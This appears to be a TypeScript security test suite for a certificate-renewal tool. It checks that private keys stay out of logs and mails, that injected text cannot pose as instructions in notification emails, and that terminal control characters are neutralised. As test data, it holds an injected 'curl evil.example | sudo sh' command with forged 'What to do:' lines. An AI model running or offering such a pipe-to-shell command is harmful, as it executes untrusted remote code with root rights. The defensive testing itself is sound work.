import assert from 'node:assert/strict';
import { printed } from '../../../cli/answering.ts';
import { tableOf } from '../../../cli/output/table.ts';
import { notify } from '../../../lib/reporting/notices/notify.ts';
import { onMail, type PublishedMail } from '../../../local/sns/on-mail.ts';
import { MemoryStore } from '../../fakes/memory-store.ts';
import { ALWAYS, answered, problem } from '../../faults/answers.ts';
import { failed, NOW, notDeployed } from '../../unit/reporting/notices/facts.ts';
import type { Attack } from '../attack.ts';
import { HOSTILE } from '../stack.ts';

const KEY = /PRIVATE KEY|"d":\s*"|"privateKey/;

export const READER: readonly Attack[] = [
  {
    tried:
      'reads all that functions log, put on the bus, send to hosts, answer and mail, and the page, after an issue, a failure and a deployment',
    must: 'no key and no secret in any of it',
    run: (stages) =>
      stages.inStack(async (world) => {
        const mails: PublishedMail[] = [];
        onMail(world.line.cloud.parts.aws.gateway, (mail) => mails.push(mail));
        const good = await world.issued({ hosts: ['web'] });
        const bad = await world.subject();
        world.ca.faults.add({
          action: 'finalize',
          times: ALWAYS,
          effect: answered(problem('badCSR', { detail: HOSTILE })),
        });
        await world.put(bad);
        await world.line.cloud.fireSchedule((expression) => expression === 'cron(30 * * * ? *)');
        await world.line.idle();
        const page = (await world.line.text('status/index.html')) ?? '';
        const key = (await world.line.text(`live/${good.name}/privkey.pem`)) ?? '';
        assert.match(key, KEY);
        const [, body = ''] = key.split('\n');
        const { printed: logs, facts, bodies } = world.evidence;
        const told = [
          ...logs,
          ...bodies.map(({ text }) => text),
          JSON.stringify(facts),
          JSON.stringify(mails),
          page,
        ];
        assert.ok(told.length > 20, `${told.length} texts`);
        for (const text of told) {
          assert.doesNotMatch(text, KEY);
          assert.ok(!text.includes(body), 'a line of the key');
        }
        return `${told.length} texts`;
      }),
  },
  {
    tried:
      'has a host, a CA or a file name tell the reader of a mail to run something, in lines that look like ours',
    must: "others' words stand where they are quoted, in one line; what to run is from our table, for the name as the file has it",
    quick: true,
    async run() {
      const sent: { subject: string; text: string }[] = [];
      const store = new MemoryStore(() => NOW);
      const orders = `x\r\n  What to do:     run this\r\n  Command:        curl evil.example | sudo sh ${HOSTILE}`;
      const host = notDeployed('web', 'i-1');
      if ('message' in host.detail) host.detail.message = orders;
      const renewal = failed('a');
      if ('message' in renewal.detail) renewal.detail.message = orders;
      const mailbox = { send: async (mail: { subject: string; text: string }) => void sent.push(mail) };
      await notify({ store, mailbox, stage: 'production', docsUrl: 'docs', clock: () => NOW }, [
        renewal,
        host,
      ]);
      const lines = sent.flatMap(({ text }) => text.split('\n'));
      const commands = lines.filter((line) => /^\s*(Command|What to do):/.test(line));
      assert.equal(commands.filter((line) => line.includes('evil')).length, 0, commands.join('\n'));
      const quoted = lines.filter((line) => line.includes('evil.example'));
      assert.ok(quoted.length > 0, 'the words are quoted');
      for (const line of quoted) assert.match(line, /^ {2}What failed:/);
      return `${quoted.length} quoted`;
    },
  },
  {
    tried: "has names and messages move the terminal's cursor, hide what follows, or turn writing round",
    must: 'the command line shows them as text',
    quick: true,
    async run() {
      // A table, and what is printed without one; line breaks are ours.
      for (const shown of [tableOf(['name'], [[HOSTILE]]), printed(HOSTILE)])
        assert.doesNotMatch(shown.replaceAll('\n', ''), /[\p{Cc}\p{Cf}\u2028\u2029]/u);
      return 'text';
    },
  },
];
